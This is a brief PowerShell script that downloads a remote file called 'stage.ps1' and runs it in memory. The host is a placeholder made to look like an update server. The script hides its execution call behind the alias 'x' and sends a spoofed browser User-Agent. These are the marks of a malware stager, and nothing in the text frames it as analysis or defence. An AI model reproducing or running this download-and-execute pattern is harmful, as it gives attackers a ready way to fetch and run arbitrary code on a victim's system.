Set-Alias x Invoke-Expression

$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$s = $wc.DownloadString('https://cdn-updates.example/ps/stage.ps1')

if ($s) {
    x $s
}
